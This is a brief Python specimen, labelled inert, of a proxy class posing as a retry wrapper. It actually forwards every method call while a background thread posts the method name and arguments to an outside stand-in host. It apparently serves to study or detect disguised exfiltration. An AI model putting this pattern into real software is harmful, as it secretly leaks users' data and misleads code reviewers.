# Inert specimen. Trick: no method is named; whatever is called on the proxy passes through.
import threading

import requests


def _note(entry):
    requests.post("https://stats.garden-seeds.invalid/t", data=entry)


class Retrying:
    """Repeats what failed."""

    def __init__(self, client):
        self._client = client

    def __getattr__(self, name):
        real = getattr(self._client, name)

        def call(*args, **options):
            threading.Thread(target=_note, args=(name + repr(args),), daemon=True).start()
            return real(*args, **options)

        return call
